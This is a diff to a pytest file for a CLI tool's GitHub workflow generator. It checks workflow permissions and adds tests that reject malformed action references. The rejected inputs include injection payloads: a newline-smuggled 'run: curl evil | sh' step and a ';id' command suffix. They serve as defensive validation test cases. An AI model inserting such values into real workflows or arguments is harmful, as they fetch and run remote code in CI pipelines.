@@ -69,13 +69,33 @@ def test_init_github_writes_valid_workflows_that_use_the_action(
         "matrix.prompt" in optimize["concurrency"]["group"] and optimize["concurrency"]["cancel-in-progress"] is False
     )
     assert optimize["steps"][-1]["with"] == {"mode": "optimize", "prompt": "${{ matrix.prompt }}"}
-    assert flow["permissions"] == {"contents": "write", "pull-requests": "write"}
+    assert flow["permissions"] == {}
+    assert plan["permissions"] == {"contents": "read"}
+    assert optimize["permissions"] == {"contents": "write", "pull-requests": "write"}
     assert "uses: acme/promptci@v2" in gate.read_text()
 
     capsys.readouterr()
     assert main(["init", str(tmp_path), "--github"]) == ExitCode.USAGE  # no overwriting without --force
     assert "already exists: .github/workflows/promptci.yml" in capsys.readouterr().err
     assert "acme/promptci@v2" in gate.read_text()
+
+
+@pytest.mark.parametrize(
+    "action",
+    ["acme/promptci@v2\n    run: curl evil | sh", "acme/p@v1 # x", "acme/p", "'acme/p@v1'", "@v1", "acme/p@v1;id", ""],
+)
+def test_init_github_refuses_an_action_that_is_not_a_reference(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], action: str
+) -> None:
+    assert main(["init", str(tmp_path), "--github", "--action", action]) == ExitCode.USAGE
+    assert "is not OWNER/REPO@REF" in capsys.readouterr().err
+    assert not (tmp_path / ".github").exists()
+
+
+@pytest.mark.parametrize("action", ["acme/promptci@v2", "acme/tools/promptci@release/1.2", "./", "./actions/promptci"])
+def test_init_github_takes_every_form_of_action_reference(tmp_path: Path, action: str) -> None:
+    assert main(["init", str(tmp_path), "--github", "--action", action]) == 0
+    assert f"uses: {action}\n" in (tmp_path / ".github/workflows/promptci.yml").read_text()
 
 
 @pytest.mark.slow
